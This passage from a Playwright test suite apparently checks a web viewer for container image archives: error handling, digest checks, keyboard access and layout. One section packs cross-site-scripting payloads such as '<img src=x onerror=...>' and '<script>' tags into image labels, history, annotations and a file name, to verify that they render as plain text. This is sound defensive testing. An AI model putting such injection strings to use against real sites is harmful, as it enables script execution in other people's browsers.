  const banner = page.getByTestId('error-banner');
  await expect(banner).toContainText('Could not open the folder huge', { timeout: 60_000 });
  await expect(banner).toContainText('it holds more than 100,000 files, which no image layout does');
  await expect(banner).toContainText('Still showing the previous file, oci-archive.tar.');
  await expect(page.locator('.status-word')).toHaveAttribute('data-status', 'done');
});

test('a tampered layer is reported as a digest mismatch', async ({ page }) => {
  const exp = expectedFor('tampered-layer.tar');
  const bad = exp.expectedLayerDigest;
  if (!bad) throw new Error('expected.json lacks expectedLayerDigest for tampered-layer.tar');
  await openFile(page, path.join(dataDir, 'tampered-layer.tar'));
  await waitForGraph(page);
  await waitForDone(page);

  await page.getByTestId('tab-layers').click();
  const row = page.locator(`[data-testid="layer-row"][data-digest="${bad}"]`);
  await expect(row).toHaveAttribute('data-digest-state', 'mismatch');
  if (exp.actualLayerDigest) await expect(row).toContainText(exp.actualLayerDigest);
  // The other layers are untouched.
  for (const other of await page.locator(`[data-testid="layer-row"]:not([data-digest="${bad}"])`).all()) {
    await expect(other).toHaveAttribute('data-digest-state', 'verified');
  }

  await page.getByTestId('tab-problems').click();
  const problem = page
    .locator(
      '[data-testid="problem"][data-code="digest-mismatch"], [data-testid="problem"][data-code="diffid-mismatch"]',
    )
    .filter({ hasText: bad.slice('sha256:'.length) });
  await expect(problem.first()).toBeVisible();

  const { report } = await downloadReport(page);
  expect(report.complete).toBe(true);
  const layer = report.images.flatMap((i) => i.layers).find((l) => l.digest === bad);
  expect(layer?.verified.digest).toBe(false);
});

test('a truncated archive reports tar-truncated and still shows what was analysed', async ({ page }) => {
  await openFile(page, path.join(dataDir, 'truncated.tar'));
  await expect(page.getByTestId('status')).toContainText('truncated.tar');
  await expect(page.getByTestId('status')).toContainText(/\b(done|failed|cancelled)\b/, { timeout: 60_000 });
  await expect(page.getByTestId('graph')).toBeVisible();
  await page.getByTestId('tab-problems').click();
  await expect(page.locator('[data-testid="problem"][data-code="tar-truncated"]').first()).toBeVisible();
  await expect(page.getByTestId('download-report')).toBeEnabled();
  // Done is not all well: the status counts the errors, as the Problems tab does.
  const errors = await page.locator('[data-testid="problem"][data-severity="error"]').count();
  expect(errors).toBeGreaterThan(0);
  await expect(page.getByTestId('status-errors')).toHaveText(`${errors} error${errors === 1 ? '' : 's'}`);
  // It holds no image: the per-image tabs say where to look.
  await page.getByTestId('tab-summary').click();
  await expect(page.getByTestId('no-images')).toHaveText(
    `No images were found in this archive. The Problems tab lists ${errors} error${errors === 1 ? '' : 's'} that say why.`,
  );
});

test('a file that is not an archive shows a clear error, and keeps the previous analysis', async ({
  page,
}) => {
  await openFile(page, path.join(dataDir, 'docker-archive.tar'));
  await waitForGraph(page);
  await waitForDone(page);
  const before = await nodeDigests(page, 'layer');
  await openFiles(page);
  const rows = page.getByTestId('file-row');
  await expect(rows.first()).toBeVisible();
  const paths = await rows.evaluateAll((r) => r.map((e) => e.getAttribute('data-path')));
  await expect(page.getByTestId('link-url')).toBeVisible();
  const link = await page.getByTestId('link-url').inputValue();

  await page.getByTestId('open-file-input').setInputFiles(path.join(dataDir, 'not-an-archive.bin'));
  const banner = page.getByTestId('error-banner');
  await expect(banner).toBeVisible();
  await expect(banner).toContainText('not-an-archive.bin');
  await expect(banner).toContainText(/not an? (image )?archive/i);
  await expect(banner).toContainText('Still showing the previous file, docker-archive.tar.');
  // The status line describes what is on screen: the previous file, done, also once the error
  // is dismissed.
  const status = page.getByTestId('status');
  await expect(status.locator('[data-status]')).toHaveAttribute('data-status', 'done');
  await expect(status).toContainText('docker-archive.tar');
  await expect(status).not.toContainText('not-an-archive.bin');
  // The previous file's analysis stays on screen, and stays usable: its files, its link.
  await expect(rows.first()).toBeVisible();
  expect(await rows.evaluateAll((r) => r.map((e) => e.getAttribute('data-path')))).toEqual(paths);
  await expect(page.getByTestId('link-url')).toHaveValue(link);
  await page.getByTestId('tab-graph').click();
  expect(await nodeDigests(page, 'layer')).toEqual(before);
  await page.getByTestId('tab-problems').click();
  await expect(page.locator('[data-testid="problem"][data-code="not-an-archive"]')).toBeVisible();
  await page.getByRole('button', { name: 'Dismiss error' }).click();
  await expect(banner).toHaveCount(0);
  await expect(status.locator('[data-status]')).toHaveAttribute('data-status', 'done');
});

test('a non-archive opened first shows the error banner over the empty state', async ({ page }) => {
  await openFile(page, path.join(dataDir, 'not-an-archive.bin'));
  await expect(page.getByTestId('error-banner')).toContainText('not-an-archive.bin');
  await expect(page.getByTestId('drop-zone')).toBeVisible();
  await expect(page.getByTestId('download-report')).toBeDisabled();
});

// ---- Untrusted strings are text, never markup ------------------------------------------------

const TAR_BLOCK = 512;

/** A minimal ustar writer, enough for an OCI layout of a few small files. */
function tar(files: { name: string; data: Buffer }[]): Buffer {
  const parts: Buffer[] = [];
  for (const f of files) {
    const h = Buffer.alloc(TAR_BLOCK);
    h.write(f.name, 0, 100, 'utf8');
    h.write('0000644\0', 100, 'ascii');
    h.write('0000000\0', 108, 'ascii');
    h.write('0000000\0', 116, 'ascii');
    h.write(`${f.data.length.toString(8).padStart(11, '0')}\0`, 124, 'ascii');
    h.write('14707340000\0', 136, 'ascii');
    h.write('        ', 148, 'ascii');
    h.write('0', 156, 'ascii');
    h.write('ustar\0', 257, 'ascii');
    h.write('00', 263, 'ascii');
    let sum = 0;
    for (const b of h) sum += b;
    h.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148, 'ascii');
    parts.push(h, f.data, Buffer.alloc((TAR_BLOCK - (f.data.length % TAR_BLOCK)) % TAR_BLOCK));
  }
  parts.push(Buffer.alloc(TAR_BLOCK * 2));
  return Buffer.concat(parts);
}

const sha256 = (b: Buffer) => `sha256:${createHash('sha256').update(b).digest('hex')}`;

/** An OCI layout whose every free-text field tries to inject markup. */
function hostileArchive(): Buffer {
  const layer = tar([{ name: 'hello.txt', data: Buffer.from('hello\n') }]);
  const config = Buffer.from(
    JSON.stringify({
      created: '2024-01-01T00:00:00Z',
      architecture: 'amd64',
      os: 'linux',
      config: {
        Env: ['EVIL=<img src=x onerror="window.__xss=1">'],
        Cmd: ['<script>window.__xss=2</script>'],
        WorkingDir: '<b>bold</b>',
        Labels: { '<img src=x onerror="window.__xss=3">': '<img src=x onerror="window.__xss=4">' },
      },
      rootfs: { type: 'layers', diff_ids: [sha256(layer)] },
      history: [{ created: '2024-01-01T00:00:00Z', created_by: '<img src=x onerror="window.__xss=5">' }],
    }),
  );
  const manifest = Buffer.from(
    JSON.stringify({
      schemaVersion: 2,
      mediaType: 'application/vnd.oci.image.manifest.v1+json',
      config: {
        mediaType: 'application/vnd.oci.image.config.v1+json',
        digest: sha256(config),
        size: config.length,
      },
      layers: [
        { mediaType: 'application/vnd.oci.image.layer.v1.tar', digest: sha256(layer), size: layer.length },
      ],
    }),
  );
  const index = Buffer.from(
    JSON.stringify({
      schemaVersion: 2,
      mediaType: 'application/vnd.oci.image.index.v1+json',
      manifests: [
        {
          mediaType: 'application/vnd.oci.image.manifest.v1+json',
          digest: sha256(manifest),
          size: manifest.length,
          annotations: { 'org.opencontainers.image.ref.name': '<img src=x onerror="window.__xss=6">' },
        },
      ],
    }),
  );
  const blob = (b: Buffer) => ({ name: `blobs/sha256/${sha256(b).slice('sha256:'.length)}`, data: b });
  return tar([
    { name: 'oci-layout', data: Buffer.from('{"imageLayoutVersion":"1.0.0"}') },
    { name: 'index.json', data: index },
    blob(manifest),
    blob(config),
    blob(layer),
  ]);
}

test('image configs that break the spec: a warning names each field, and every tab shows what the config does say', async ({
  page,
  workDir,
}) => {
  // The spec's own invalid configs, in the skopeo-made OCI archive (test/spec-cases.ts).
  const env = archiveWithConfig(workDir, 'config-05-invalid.json');
  await openFile(page, env.archive);
  await waitForGraph(page);
  await waitForDone(page);
  await page.getByTestId('tab-summary').click();
  await expect(page.getByTestId('summary')).toContainText('7353');
  await expect(page.getByTestId('summary')).toContainText('amd64');
  await page.getByTestId('tab-problems').click();
  await expect(page.getByTestId('problems')).toContainText(
    `config ${env.configDigest} does not follow image-spec config.md: os is a number (123), not a string; config.Env[0] is a number (7353), not a string`,
  );
  // The history of the next one is a string: the other tabs stay, and say there is none.
  const history = archiveWithConfig(workDir, 'config-04-invalid.json');
  await page.getByTestId('open-file-input').setInputFiles(history.archive);
  await expect(page.getByTestId('status')).toContainText('config-04-invalid.tar');
  await waitForDone(page);
  await page.getByTestId('tab-history').click();
  await expect(page.getByTestId('history')).toContainText('The image config has no history.');
  await page.getByTestId('tab-layers').click();
  await expect(page.getByTestId('layer-row')).toHaveCount(3);
  await page.getByTestId('tab-problems').click();
  await expect(page.getByTestId('problems')).toContainText(
    'history is a string ("should be an array"), not an array of objects',
  );
});

test('labels, refs, history and file names are rendered as text', async ({ page }) => {
  const fileName = '<img src=x onerror="window.__xss=7">.tar';
  await page.goto('/');
  await page
    .getByTestId('open-file-input')
    .setInputFiles({ name: fileName, mimeType: 'application/x-tar', buffer: hostileArchive() });
  await waitForGraph(page);
  await waitForDone(page);
  await expect(page.getByTestId('status')).toContainText(fileName);

  await page.getByTestId('tab-summary').click();
  const summary = page.getByTestId('summary');
  await expect(summary).toContainText('<img src=x onerror="window.__xss=4">');
  await expect(summary).toContainText('<script>window.__xss=2</script>');
  await expect(summary).toContainText('<b>bold</b>');
  await expect(summary.locator('img, script, b')).toHaveCount(0);

  await page.getByTestId('tab-history').click();
  await expect(page.getByTestId('history')).toContainText('<img src=x onerror="window.__xss=5">');

  await page.getByTestId('tab-graph').click();
  await page.locator('[data-testid="graph-node"][data-kind="config"]').click();
  await expect(page.getByTestId('raw-json')).toContainText('window.__xss=3');

  await expect(page.locator('#app img, #app script')).toHaveCount(0);
  expect(await page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss)).toBeUndefined();
});

// ---- Keyboard -----------------------------------------------------------------------------------

test('keyboard: tab to a graph node, Enter shows its details; arrows switch tabs', async ({ page }) => {
  await openFile(page, path.join(dataDir, 'oci-layout-multi.tar'));
  await waitForGraph(page);
  await waitForDone(page);
  await page.locator('body').focus();

  let reached = false;
  for (let i = 0; i < 30 && !reached; i++) {
    await page.keyboard.press('Tab');
    reached = await page.evaluate(
      () => (document.activeElement as HTMLElement | null)?.dataset.testid === 'graph-node',
    );
  }
  expect(reached, 'a graph node is reachable with Tab').toBe(true);
  const digest = await page.evaluate(() => (document.activeElement as HTMLElement).dataset.digest ?? '');
  await page.keyboard.press('Enter');
  await expect(page.getByTestId('node-details')).toBeVisible();
  if (digest) await expect(page.getByTestId('node-details')).toContainText(digest);

  // Arrow keys move along the drawing.
  await page.keyboard.press('ArrowRight');
  expect(await page.evaluate(() => (document.activeElement as HTMLElement | null)?.dataset.testid)).toBe(
    'graph-node',
  );
  // Every node is reached by arrows: a config, whose layers hang from the manifest, moves right to
  // the nearest layer; a layer moves left to the manifest that lists it.
  const focusedKind = () => page.evaluate(() => (document.activeElement as HTMLElement | null)?.dataset.kind);
  await page.locator('[data-testid="graph-node"][data-kind="config"]').first().focus();
  await page.keyboard.press('ArrowRight');
  expect(await focusedKind()).toBe('layer');
  await page.keyboard.press('ArrowLeft');
  expect(await focusedKind()).toBe('manifest');

  const graphTab = page.getByTestId('tab-graph');
  await graphTab.focus();
  await page.keyboard.press('ArrowRight');
  await expect(page.getByTestId('tab-summary')).toHaveAttribute('aria-selected', 'true');
  await expect(page.getByTestId('tab-summary')).toBeFocused();
  await expect(page.getByTestId('summary')).toBeVisible();
  await page.keyboard.press('End');
  await expect(page.getByTestId('tab-problems')).toHaveAttribute('aria-selected', 'true');
  await expect(page.getByTestId('problems')).toBeVisible();
});

// ---- Failures outside the archive -----------------------------------------------------------------

test('a worker that cannot start is reported on the page, not only in the console', async ({ page }) => {
  await page.route(/analysis-worker[^/]*\.js(\?.*)?$/, (route) => route.abort());
  await openFile(page, path.join(dataDir, 'docker-archive.tar'));
  const banner = page.getByTestId('error-banner');
  await expect(banner).toBeVisible();
  await expect(banner).toContainText(/worker/i);
  await expect(page.getByTestId('status')).toContainText('failed');
});

test('a sample that cannot be fetched is reported in the error banner', async ({ page }) => {
  await page.route('**/sample/sample.tar', (route) => route.fulfill({ status: 404, body: 'not here' }));
  await page.goto('/');
  await page.getByTestId('sample-button').click();
  await expect(page.getByTestId('error-banner')).toContainText(/sample/i);
  await expect(page.getByTestId('error-banner')).toContainText('404');
  await expect(page.getByTestId('error-banner')).not.toContainText('Still showing');

  // With an archive on screen, the banner says it stays, and its status is its own.
  await page.getByTestId('open-file-input').setInputFiles(path.join(dataDir, 'oci-archive.tar'));
  await waitForDone(page);
  await page.getByTestId('sample-button').click();
  await expect(page.getByTestId('error-banner')).toContainText('404');
  await expect(page.getByTestId('error-banner')).toContainText(
    'Still showing the previous file, oci-archive.tar.',
  );
  await expect(page.locator('.status-word')).toHaveAttribute('data-status', 'done');
});

test('at phone width every tab is reachable and no view makes the page scroll sideways', async ({ page }) => {
  await page.setViewportSize({ width: 360, height: 800 });
  await page.goto('/');
  await page.getByTestId('sample-button').click();
  await waitForDone(page);
  const tabs = page.getByRole('tab');
  const names = await tabs.allTextContents();
  expect(names.length).toBeGreaterThanOrEqual(6);
  for (const [i, name] of names.entries()) {
    const tab = tabs.nth(i);
    // Wholly inside the window, not scrolled out of a strip of tabs.
    const box = (await tab.boundingBox())!;
    expect(box.x, name).toBeGreaterThanOrEqual(0);
    expect(box.x + box.width, name).toBeLessThanOrEqual(360);
    await tab.click();
    await expect(tab).toHaveAttribute('aria-selected', 'true');
    // Wide tables and the graph scroll inside their own boxes; the page itself does not.
    const width = await page.evaluate(() => document.documentElement.scrollWidth);
    expect(width, `page width on the ${name.trim()} tab`).toBeLessThanOrEqual(360);
  }
});

test('Summary shows a Docker-format image’s ONBUILD triggers and SHELL, as docker inspect has them', async ({
  page,
  workDir,
}) => {
  // Set by buildah (in its own storage) on an empty image committed in Docker's format, the only one
  // that carries them, and saved as a docker-archive.
  const buildah = [
    '--root',
    path.join(workDir, 'root'),
    '--runroot',
    path.join(workDir, 'run'),
    '--storage-driver',
    'vfs',
  ];
  const archive = path.join(workDir, 'onbuild.tar');
  execFileSync('buildah', [...buildah, 'from', '--name', 'c', 'scratch'], { stdio: 'ignore' });
  execFileSync(
    'buildah',
    [...buildah, 'config', '--onbuild', 'RUN echo built-on-top', '--shell', '/bin/bash -o pipefail -c', 'c'],
    { stdio: 'ignore' },
  );
  execFileSync('buildah', [...buildah, 'commit', '--quiet', '--format', 'docker', 'c', 'localhost/ob:1'], {
    stdio: 'ignore',
  });
  execFileSync('buildah', [
    ...buildah,
    'push',
    '--quiet',
    'localhost/ob:1',
    `docker-archive:${archive}:ob:1`,
  ]);
  await openFile(page, archive);
  await waitForDone(page);
  await page.getByTestId('tab-summary').click();
  await expect(page.getByTestId('summary-onbuild').locator('li')).toHaveText(['RUN echo built-on-top']);
  await expect(page.getByTestId('summary-shell')).toHaveText('["/bin/bash","-o","pipefail","-c"]');
  // An image without them has neither row.
  await openFile(page, path.join(dataDir, 'oci-archive.tar'));
  await waitForDone(page);
  await expect(page.getByTestId('summary-onbuild')).toHaveCount(0);
  await expect(page.getByTestId('summary-shell')).toHaveCount(0);
});

test('a node’s Copy puts its document on the clipboard, says so, and forgets it for the next node', async ({
  page,
}) => {
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
  await openFile(page, path.join(dataDir, 'oci-archive.tar'));
  await waitForDone(page);
  await page.locator('[data-testid="graph-node"][data-kind="config"]').first().click();
  const details = page.getByTestId('node-details');
  await details.getByRole('button', { name: 'Copy', exact: true }).click();
  await expect(details.getByTestId('copy-state')).toHaveText('Copied');
  const copied = await page.evaluate(() => navigator.clipboard.readText());
  expect(JSON.parse(copied)).toEqual(JSON.parse(await page.getByTestId('raw-json').innerText()));
  expect((JSON.parse(copied) as { rootfs?: unknown }).rootfs).toBeTruthy();
  await page.locator('[data-testid="graph-node"][data-kind="manifest"]').first().click();
  await expect(details.getByTestId('copy-state')).toHaveText('');
});
